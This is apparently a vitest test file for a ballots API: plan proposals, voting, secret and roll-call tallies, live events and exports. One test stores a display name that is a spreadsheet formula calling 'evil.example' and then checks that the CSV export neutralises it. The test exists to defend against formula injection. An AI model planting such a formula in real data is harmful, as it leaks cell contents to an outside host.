import { and, eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { accounts, auditEntries, ballotElectorate, benefitPlans, projects } from "@/db/schema";
import { flushVoteNotices } from "./vote-notices";
import { ballotProject, ballotSettings, insertAccounts, storedBallot, tiltedShares } from "@/server/testing/ballots";
import {
  callerFor,
  createTestAccount,
  createTestServices,
  describeEvent,
  observeCommitsAndPublishes,
  type TestAccount,
  type TestServices,
} from "@/server/testing/fixtures";
import { callFailure } from "@/server/testing/trpc-errors";
import { applyBallotEvent } from "@/app/lib/live/ballot-view";
import { applyPlansEvent, applyProjectBallotsEvent } from "@/app/lib/live/project-ballots";
import { streamKey } from "@/server/domain/stream-access";

let services: TestServices;
let admin: TestAccount;

beforeAll(async () => {
  services = await createTestServices();
  admin = await createTestAccount(services.deps.db, { role: "admin", regionCode: "beijing" });
});
afterAll(async () => {
  await services?.close();
});

const as = (who: TestAccount) => callerFor(services.deps, who.user);
const projectStatus = async (id: number) =>
  (await services.deps.db.select({ status: projects.status }).from(projects).where(eq(projects.id, id)))[0]?.status;

describe(`ballots router: plans (${process.env.DATABASE_URL ? "postgres" : "pglite"})`, () => {
  it("[PLAN] proposers and members propose; shares must cover every region and sum to 100 %", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1], plans: 0 });
    const ids = setup.regions.map((r) => r.id);
    const byCoauthor = await as(setup.coauthors[0]!).ballots.plans.propose({
      projectId: setup.projectId,
      shares: tiltedShares(ids, 1),
      rationale: "Dongguan builds",
    });
    const byMember = await as(setup.members[0]![0]!).ballots.plans.propose({
      projectId: setup.projectId,
      shares: tiltedShares(ids, 0),
      rationale: "Lead gains",
      terms: "Review in year 2",
    });
    const plans = await callerFor(services.deps, null).ballots.plans.list({ projectId: setup.projectId });
    expect(plans.map((p) => p.id)).toEqual([byCoauthor.id, byMember.id]);
    expect(plans[1]).toMatchObject({ rationale: "Lead gains", terms: "Review in year 2", ballotId: null });
    expect(plans[0]!.shares.map((s) => s.regionId)).toEqual(ids);

    const bad = await callFailure(
      as(setup.proposer).ballots.plans.propose({
        projectId: setup.projectId,
        shares: [
          { regionId: ids[0]!, costBp: 6000, benefitBp: 5000 },
          { regionId: ids[1]!, costBp: 3000, benefitBp: 5000 },
        ],
        rationale: "Short",
      }),
    );
    expect(bad).toMatchObject({ code: "BAD_REQUEST", reason: "INVALID_PLAN" });
    expect(bad.error.message).toContain("they add up to 90 % (9000 basis points)");

    const outsider = await createTestAccount(services.deps.db, { role: "researcher" });
    expect(
      await callFailure(
        as(outsider).ballots.plans.propose({
          projectId: setup.projectId,
          shares: tiltedShares(ids, 0),
          rationale: "x",
        }),
      ),
    ).toMatchObject({ code: "FORBIDDEN", reason: "PLAN_FORBIDDEN" });
    const moderator = await createTestAccount(services.deps.db, { role: "moderator" });
    expect(
      await callFailure(
        as(moderator).ballots.plans.propose({
          projectId: setup.projectId,
          shares: tiltedShares(ids, 0),
          rationale: "x",
        }),
      ),
    ).toMatchObject({ code: "FORBIDDEN" });
  });

  it("[PLAN] the starting plan shares costs equally or by contribution, with benefits in proportion", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1, 1], plans: 0 });
    const [a, b, c] = setup.regions.map((r) => r.id);
    const equal = await callerFor(services.deps, null).ballots.plans.startingPlan({ projectId: setup.projectId });
    expect(equal.shares).toEqual([
      { regionId: a, costBp: 3334, benefitBp: 3334 },
      { regionId: b, costBp: 3333, benefitBp: 3333 },
      { regionId: c, costBp: 3333, benefitBp: 3333 },
    ]);
    const weighted = await callerFor(services.deps, null).ballots.plans.startingPlan({
      projectId: setup.projectId,
      contributions: [
        { regionId: a!, yuan: 60_000_000 },
        { regionId: b!, yuan: 30_000_000 },
        { regionId: c!, yuan: 10_000_000 },
      ],
    });
    expect(weighted.shares.map((s) => [s.costBp, s.benefitBp])).toEqual([
      [6000, 6000],
      [3000, 3000],
      [1000, 1000],
    ]);
  });
});

describe(`the project page's plans and ballots, live (${process.env.DATABASE_URL ? "postgres" : "pglite"})`, () => {
  it("[LIVE] each plan and round event on the project's stream, applied to what a reader read, gives what they read next, with no read", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1], plans: 0 });
    const ids = setup.regions.map((r) => r.id);
    const [chair, other] = [setup.members[0]![0]!, setup.members[1]![0]!];
    const projectId = setup.projectId;
    const readers = [null, chair, setup.proposer];
    const read = async (reader: TestAccount | null) => {
      const caller = callerFor(services.deps, reader?.user ?? null);
      return {
        plans: await caller.ballots.plans.list({ projectId }),
        ballots: await caller.ballots.forProject({ projectId }),
      };
    };
    let views = await Promise.all(readers.map(read));
    const published = services.deps.publisher.published;
    const step = async (act: () => Promise<unknown>) => {
      const from = published.length;
      await act();
      const events = published.slice(from).filter((e) => e.stream === `project:${projectId}`);
      views = await Promise.all(
        readers.map(async (reader, i) => {
          let { plans, ballots } = views[i]!;
          for (const event of events) {
            const toPlans = applyPlansEvent(plans, event);
            const toBallots = applyProjectBallotsEvent(ballots, event);
            expect([toPlans.refetch, toBallots.refetch]).toEqual([false, false]);
            plans = toPlans.view;
            ballots = toBallots.view;
          }
          const next = await read(reader);
          expect({ plans, ballots }).toEqual(next);
          return next;
        }),
      );
      return events;
    };

    const proposed = await step(() =>
      as(setup.proposer).ballots.plans.propose({ projectId, shares: tiltedShares(ids, 0), rationale: "Lead builds" }),
    );
    expect(proposed.map((e) => e.type)).toEqual(["plan:proposed"]);
    await step(() =>
      as(other).ballots.plans.propose({
        projectId,
        shares: tiltedShares(ids, 1),
        rationale: "Partner builds",
        terms: "Yearly review",
      }),
    );
    const opening = await step(() => as(chair).ballots.open(ballotSettings(projectId)));
    expect(opening.map((e) => e.type)).toEqual(["project:status-changed", "ballot:opened"]);
    expect(views[0]!.ballots.map((b) => b.status)).toEqual(["open"]);
    expect(views[0]!.plans.every((p) => p.ballotId === views[0]!.ballots[0]!.id)).toBe(true);
    const ballotId = views[0]!.ballots[0]!.id;
    const planIds = views[0]!.plans.map((p) => p.id);
    for (const voter of [chair, other])
      await as(voter).ballots.castVote({
        ballotId,
        choices: planIds.map((planId) => ({ planId, choice: "approve" as const })),
      });
    const closing = await step(() => as(chair).ballots.close({ ballotId }));
    expect(closing.map((e) => e.type)).toEqual(["project:status-changed", "ballot:closed"]);
    expect(views[0]!.ballots[0]).toMatchObject({ status: "closed", outcome: "agreement" });
    // The secret ballot's close tells the project's followers its outcome, never who voted or how.
    const closed = JSON.stringify(closing[1]!.payload);
    for (const voter of [chair, other]) expect(closed).not.toContain(voter.account.displayName);
    expect(closed).not.toMatch(/approve|voterId|receipt/);
  });
});

describe(`ballots router: opening, voting, closing (${process.env.DATABASE_URL ? "postgres" : "pglite"})`, () => {
  it("[OPEN] opening freezes the plans, snapshots the electorate and moves the project to voting, in one transaction", async () => {
    const setup = await ballotProject(services.deps, { members: [3, 2] });
    const chair = setup.members[0]![0]!;
    const observed = observeCommitsAndPublishes(services.deps);
    const opened = await callerFor(observed.deps, chair.user).ballots.open(ballotSettings(setup.projectId));

    expect(opened).toMatchObject({ projectId: setup.projectId, round: 1, planIds: setup.planIds });
    expect(await projectStatus(setup.projectId)).toBe("voting");
    // Notices to the proposers and to every voter but the chair (user:<id> streams) ride in the same commit.
    const notices = / ?user:\d+#\d+ notification:created,?/g;
    // The answer's page is read after the commit ("read"), before or after the publish.
    const written = observed.timeline.filter((line) => line !== "read");
    expect(written.map((line) => line.replace(notices, "").replace(/,$/, ""))).toEqual([
      "commit",
      expect.stringMatching(
        new RegExp(
          `^publish projects#\\d+ project:status-changed, project:${setup.projectId}#\\d+ project:status-changed, ballot:${opened.id}#1 ballot:opened, project:${setup.projectId}#\\d+ ballot:opened$`,
        ),
      ),
    ]);
    expect(written[1]!.match(notices)?.length).toBe(setup.members.flat().length - 1 + 1 + setup.coauthors.length);
    const electorate = await services.deps.db
      .select()
      .from(ballotElectorate)
      .where(eq(ballotElectorate.ballotId, opened.id));
    expect(electorate.map((e) => e.accountId).sort((x, y) => x - y)).toEqual(
      setup.members
        .flat()
        .map((m) => m.account.id)
        .sort((x, y) => x - y),
    );
    const ballot = await callerFor(services.deps, null).ballots.get({ ballotId: opened.id });
    expect(ballot.turnout).toEqual([
      { regionId: setup.regions[0]!.id, electorate: 3, quorum: 2, voted: 0 },
      { regionId: setup.regions[1]!.id, electorate: 2, quorum: 1, voted: 0 },
    ]);
    expect(ballot.tallies).toBeNull();
    const audits = await services.deps.db
      .select()
      .from(auditEntries)
      .where(and(eq(auditEntries.targetType, "ballot"), eq(auditEntries.targetId, String(opened.id))));
    expect(audits.map((a) => a.action)).toEqual(["ballot.open"]);
    // Frozen: no more plans once the project is in voting.
    expect(
      await callFailure(
        as(setup.proposer).ballots.plans.propose({
          projectId: setup.projectId,
          shares: tiltedShares(
            setup.regions.map((r) => r.id),
            0,
          ),
          rationale: "Late",
        }),
      ),
    ).toMatchObject({
      code: "PRECONDITION_FAILED",
      reason: "PLANS_CLOSED",
    });
  });

  it("[OPEN] without plans nothing is written: the project stays submitted", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1], plans: 0 });
    const failure = await callFailure(as(setup.members[0]![0]!).ballots.open(ballotSettings(setup.projectId)));
    expect(failure).toMatchObject({ code: "PRECONDITION_FAILED", reason: "NO_PLANS" });
    expect(await projectStatus(setup.projectId)).toBe("submitted");
    const researcher = await createTestAccount(services.deps.db, { role: "researcher" });
    expect(await callFailure(as(researcher).ballots.open(ballotSettings(setup.projectId)))).toMatchObject({
      code: "FORBIDDEN",
    });
  });

  it("[VOTE] only the snapshotted electorate votes; researchers, moderators, admins and outside members get FORBIDDEN", async () => {
    const setup = await ballotProject(services.deps, { members: [2, 2] });
    const opened = await as(setup.members[0]![0]!).ballots.open(ballotSettings(setup.projectId));
    const choices = setup.planIds.map((planId) => ({ planId, choice: "approve" as const }));
    const outsideMember = (
      await insertAccounts(
        services.deps.db,
        (await createTestAccount(services.deps.db, { role: "member", regionCode: "qingdao" })).account.regionId,
        1,
      )
    )[0]!;
    const lateMember = (await insertAccounts(services.deps.db, setup.regions[0]!.id, 1))[0]!;
    for (const who of [
      await createTestAccount(services.deps.db, { role: "researcher" }),
      await createTestAccount(services.deps.db, { role: "moderator" }),
      admin,
      outsideMember,
      lateMember,
    ]) {
      expect(await callFailure(as(who).ballots.castVote({ ballotId: opened.id, choices }))).toMatchObject({
        code: "FORBIDDEN",
      });
    }
    expect(
      await callFailure(
        as(setup.members[0]![0]!).ballots.castVote({
          ballotId: opened.id,
          choices: [{ planId: 999_999, choice: "approve" }],
        }),
      ),
    ).toMatchObject({ reason: "PLAN_NOT_ON_BALLOT" });
  });

  it("[VOTE] member changes vote; turnout is live, tallies hidden until the close, then the early close by the chair decides", async () => {
    const setup = await ballotProject(services.deps, { members: [2, 2] });
    const chair = setup.members[0]![0]!;
    const opened = await as(chair).ballots.open(ballotSettings(setup.projectId));
    const [p1, p2] = setup.planIds as [number, number];
    const voter = setup.members[1]![0]!;
    await as(voter).ballots.castVote({
      ballotId: opened.id,
      choices: [
        { planId: p1, choice: "reject" },
        { planId: p2, choice: "approve" },
      ],
    });
    await as(voter).ballots.castVote({ ballotId: opened.id, choices: [{ planId: p1, choice: "approve" }] });
    expect((await as(voter).ballots.myVotes({ ballotId: opened.id })).votes.map((v) => [v.planId, v.choice])).toEqual([
      [p1, "approve"],
      [p2, "approve"],
    ]);
    for (const m of [setup.members[0]![0]!, setup.members[0]![1]!])
      await as(m).ballots.castVote({
        ballotId: opened.id,
        choices: [
          { planId: p1, choice: "approve" },
          { planId: p2, choice: "reject" },
        ],
      });

    const live = await callerFor(services.deps, null).ballots.get({ ballotId: opened.id });
    expect(live.turnout.map((t) => t.voted)).toEqual([2, 1]);
    expect(live.tallies).toBeNull();
    await flushVoteNotices(services.deps.publisher);
    const notices = services.deps.publisher.published.filter(
      (e) => e.stream === `ballot:${opened.id}` && e.type === "vote:counted",
    );
    expect(notices.length).toBeGreaterThanOrEqual(1);
    expect((notices.at(-1)!.payload as { turnout: Array<{ voted: number }> }).turnout.map((t) => t.voted)).toEqual([
      2, 1,
    ]);
    expect(notices.at(-1)!.payload).not.toHaveProperty("tallies");
    expect(await callFailure(callerFor(services.deps, null).ballots.result({ ballotId: opened.id }))).toMatchObject({
      reason: "BALLOT_STILL_OPEN",
    });

    expect(await callFailure(as(setup.members[1]![1]!).ballots.close({ ballotId: opened.id }))).toMatchObject({
      code: "FORBIDDEN",
      reason: "NOT_BALLOT_CHAIR",
    });
    const closed = await as(chair).ballots.close({ ballotId: opened.id });
    expect(closed).toMatchObject({ ballotId: opened.id, closedNow: true });
    expect(closed.page.result).toMatchObject({
      outcome: "agreement",
      winnerPlanId: p1,
      rule: "regional_consent",
      quorumBp: 5000,
    });
    expect(closed.page.digest).toMatch(/^[0-9a-f]{64}$/);
    expect(closed.page.digest).toBe((await storedBallot(services.deps.db, opened.id)).digest);
    expect(await projectStatus(setup.projectId)).toBe("approved");

    const late = await callFailure(
      as(setup.members[1]![1]!).ballots.castVote({ ballotId: opened.id, choices: [{ planId: p1, choice: "reject" }] }),
    );
    expect(late).toMatchObject({ code: "PRECONDITION_FAILED", reason: "BALLOT_CLOSED" });
    expect(late.error.message).toMatch(/^Voting closed at \d{4}-\d\d-\d\d \d\d:\d\d UTC$/);

    const result = await callerFor(services.deps, null).ballots.result({ ballotId: opened.id });
    expect(result).toMatchObject({
      outcome: "agreement",
      winner: { planId: p1 },
      votes: null,
      digest: closed.page.digest,
    });
    expect(result.winner!.shares.map((s) => s.benefitBp)).toEqual([9000, 1000]);
    // A secret ballot: regions of two and one voter show no counts (ballot-secrecy.ts), nor then the overall.
    expect(result.plans[0]!.regions.map((r) => [r.approve, r.reject, r.metQuorum, r.suppressed])).toEqual([
      [null, null, true, true],
      [null, null, true, true],
    ]);
    expect([result.plans[0]!.approve, result.plans[0]!.reject, result.plans[0]!.suppressed]).toEqual([
      null,
      null,
      true,
    ]);
    expect(result.receipts).toHaveLength(6);
    expect(result.receipts).toContain((await as(voter).ballots.myVotes({ ballotId: opened.id })).votes[0]!.receipt);
    const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
    expect(csv.split("\n")[0]).toContain("record,ballot_id");
    expect(csv).not.toMatch(/^vote,/m);
    expect(csv).not.toContain(voter.account.displayName);
    const json = JSON.parse(await callerFor(services.deps, null).ballots.exportJson({ ballotId: opened.id })) as Record<
      string,
      unknown
    >;
    expect(json).toMatchObject({ outcome: "agreement", votes: null });
    expect(JSON.stringify(json)).not.toContain(`"voterId"`);
    const audits = await services.deps.db
      .select()
      .from(auditEntries)
      .where(and(eq(auditEntries.targetType, "ballot"), eq(auditEntries.targetId, String(opened.id))));
    expect(audits.map((a) => [a.action, a.actorId])).toEqual([
      ["ballot.open", chair.account.id],
      ["ballot.close", chair.account.id],
    ]);
    const types = services.deps.publisher.published
      .filter((e) => e.stream === `project:${setup.projectId}`)
      .map((e) => e.type);
    expect(types.slice(-2)).toEqual(["project:status-changed", "ballot:closed"]);
  });

  it("[ROLL-CALL] running tallies are shown, and every vote is public in the result and the exports", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1] });
    const opened = await as(setup.members[0]![0]!).ballots.open(
      ballotSettings(setup.projectId, { visibility: "roll_call", showRunningTallies: true, rule: "simple_majority" }),
    );
    const voter = setup.members[1]![0]!;
    await as(voter).ballots.castVote({
      ballotId: opened.id,
      choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })),
    });
    const live = await callerFor(services.deps, null).ballots.get({ ballotId: opened.id });
    expect(live.tallies?.map((t) => t.approve)).toEqual([1, 1]);
    await flushVoteNotices(services.deps.publisher);
    expect(live.votes?.map((v) => v.voterId)).toEqual([voter.account.id, voter.account.id]);
    const notice = services.deps.publisher.published.filter((e) => e.stream === `ballot:${opened.id}`).at(-1)!;
    expect(describeEvent(notice)).toBe(`ballot:${opened.id}#2 vote:counted`);
    expect(notice.payload).toHaveProperty("tallies");
    // The lead region has not voted: only an admin's explicit confirmation closes before the time.
    await as(admin).ballots.close({ ballotId: opened.id, confirmEarlyClose: true });
    const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
    expect(csv.match(/^vote,/gm)).toHaveLength(2);
    expect(csv).toContain(`,${voter.account.id},${voter.account.displayName},approve,`);
  });

  it("[EXPORT] a voter named like a spreadsheet formula is written as text", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1] });
    const opened = await as(setup.members[0]![0]!).ballots.open(
      ballotSettings(setup.projectId, { visibility: "roll_call", rule: "simple_majority" }),
    );
    const voter = setup.members[1]![0]!;
    // Written straight to the table: names stored before names were cleaned at the door.
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    await services.deps.db.update(accounts).set({ displayName: formula }).where(eq(accounts.id, voter.account.id));
    await as(voter).ballots.castVote({
      ballotId: opened.id,
      choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })),
    });
    await as(admin).ballots.close({ ballotId: opened.id, confirmEarlyClose: true });

    const csv = await callerFor(services.deps, null).ballots.exportCsv({ ballotId: opened.id });
    const votes = csv.split("\r\n").filter((line) => line.startsWith("vote,"));
    expect(votes).toHaveLength(2);
    for (const line of votes) {
      expect(line).toContain(`,${voter.account.id},"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",approve,`);
      // No cell of the line starts a formula once its quotes are read.
      expect(line).not.toMatch(/(^|,)"?[=+\-@]/);
    }
  });

  it("[LIVE] watchers are told the new turnout within a second of a vote, after it committed", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1] });
    // Roll-call: a secret ballot's notices wait for several voters (vote-notices.ts).
    const opened = await as(setup.members[0]![0]!).ballots.open(
      ballotSettings(setup.projectId, { showRunningTallies: true, visibility: "roll_call" }),
    );
    const stream = `ballot:${opened.id}`;
    const started = Date.now();
    await as(setup.members[1]![0]!).ballots.castVote({
      ballotId: opened.id,
      choices: [{ planId: setup.planIds[0]!, choice: "approve" }],
    });
    while (
      !services.deps.publisher.published.some((e) => e.stream === stream && e.type === "vote:counted") &&
      Date.now() - started < 2_000
    ) {
      await new Promise((resolve) => setTimeout(resolve, 10));
    }
    expect(Date.now() - started).toBeLessThan(1_000);
    const notice = services.deps.publisher.published.find((e) => e.stream === stream && e.type === "vote:counted")!;
    expect(notice.payload).toMatchObject({
      turnout: [{ voted: 0 }, { voted: 1 }],
      tallies: [{ planId: setup.planIds[0], approve: 1 }, { approve: 0 }],
    });
  });

  it("[LIVE] the read comes with its stream head; the notices after it, applied as the page does, give what a fresh read gives", async () => {
    const setup = await ballotProject(services.deps, { members: [2, 1] });
    const opened = await as(setup.members[0]![0]!).ballots.open(
      ballotSettings(setup.projectId, { showRunningTallies: true, visibility: "roll_call" }),
    );
    const stream = streamKey({ kind: "ballot", id: opened.id });
    const anonymous = callerFor(services.deps, null);
    const first = await anonymous.ballots.get({ ballotId: opened.id });
    // ballot:opened is the stream's first event and is in what the page read.
    expect(first.headSeq).toBe(1);
    await as(setup.members[0]![1]!).ballots.castVote({
      ballotId: opened.id,
      choices: [{ planId: setup.planIds[0]!, choice: "approve" }],
    });
    await flushVoteNotices(services.deps.publisher);
    await as(setup.members[1]![0]!).ballots.castVote({
      ballotId: opened.id,
      choices: setup.planIds.map((planId) => ({ planId, choice: "reject" as const })),
    });
    await flushVoteNotices(services.deps.publisher);
    const after = services.deps.publisher.published.filter((e) => e.stream === stream && e.seq > first.headSeq);
    expect(after.map((e) => e.type)).toEqual(["vote:counted", "vote:counted"]);

    let view = first;
    for (const event of [...after, ...after]) view = applyBallotEvent(view, event).view; // the second pass is a duplicate: no change
    const fresh = await anonymous.ballots.get({ ballotId: opened.id });
    expect(fresh.headSeq).toBe(3);
    expect(view.headSeq).toBe(fresh.headSeq);
    expect(view.turnout).toEqual(fresh.turnout);
    expect(view.tallies).toEqual(fresh.tallies);
    expect(fresh.tallies?.map((t) => [t.approve, t.reject])).toEqual([
      [1, 1],
      [0, 1],
    ]);
  });

  it("[ROUNDS] no agreement names the blocking regions; the chair opens a new round, then ends it: rejected", async () => {
    const setup = await ballotProject(services.deps, { members: [1, 1] });
    const chair = setup.members[0]![0]!;
    const opened = await as(chair).ballots.open(ballotSettings(setup.projectId));
    await as(chair).ballots.castVote({
      ballotId: opened.id,
      choices: setup.planIds.map((planId) => ({ planId, choice: "approve" as const })),
    });
    await as(setup.members[1]![0]!).ballots.castVote({
      ballotId: opened.id,
      choices: setup.planIds.map((planId) => ({ planId, choice: "reject" as const })),
    });
    const closed = await as(chair).ballots.close({ ballotId: opened.id });
    const stored = await storedBallot(services.deps.db, opened.id);
    expect(stored.result).toMatchObject({ outcome: "no_agreement", winnerPlanId: null });
    expect(stored.result!.plans.map((p) => p.blockedBy)).toEqual([[setup.regions[1]!.id], [setup.regions[1]!.id]]);
    // One voter a region, secret: the chair is told a region blocked, not which (that would be its voter's choice).
    expect(closed).not.toHaveProperty("result");
    expect(closed.page.result).toMatchObject({ outcome: "no_agreement", winnerPlanId: null });
    expect(closed.page.result!.plans.map((p) => [p.blockedBy, p.blockedByHidden])).toEqual([
      [[], true],
      [[], true],
    ]);
    expect(await projectStatus(setup.projectId)).toBe("voting");

    const other = setup.members[1]![0]!;
    const { projectId: _omit, ...settings } = ballotSettings(setup.projectId);
    const plans = [
      {
        shares: tiltedShares(
          setup.regions.map((r) => r.id),
          1,
        ),
        rationale: "Revised",
      },
    ];
    expect(await callFailure(as(other).ballots.newRound({ ballotId: opened.id, ...settings, plans }))).toMatchObject({
      reason: "NOT_BALLOT_CHAIR",
    });
    const second = await as(chair).ballots.newRound({ ballotId: opened.id, ...settings, plans });
    expect(second).toMatchObject({ round: 2 });
    expect(
      await services.deps.db
        .select({ id: benefitPlans.id })
        .from(benefitPlans)
        .where(eq(benefitPlans.ballotId, second.id)),
    ).toHaveLength(1);
    expect(await callFailure(as(chair).ballots.newRound({ ballotId: opened.id, ...settings, plans }))).toMatchObject({
      reason: "NEW_ROUND_NOT_ALLOWED",
    });
    // Nobody voted in the second round: the chair cannot close it early, an admin confirming can.
    expect(await callFailure(as(chair).ballots.close({ ballotId: second.id }))).toMatchObject({
      code: "PRECONDITION_FAILED",
      reason: "EARLY_CLOSE_QUORUM_NOT_MET",
    });
    await as(admin).ballots.close({ ballotId: second.id, confirmEarlyClose: true });
    await as(chair).ballots.concludeWithoutAgreement({ ballotId: second.id });
    expect(await projectStatus(setup.projectId)).toBe("rejected");
    expect(
      (await callerFor(services.deps, null).ballots.forProject({ projectId: setup.projectId })).map((b) => [
        b.round,
        b.outcome,
      ]),
    ).toEqual([
      [2, "no_agreement"],
      [1, "no_agreement"],
    ]);
  });
});
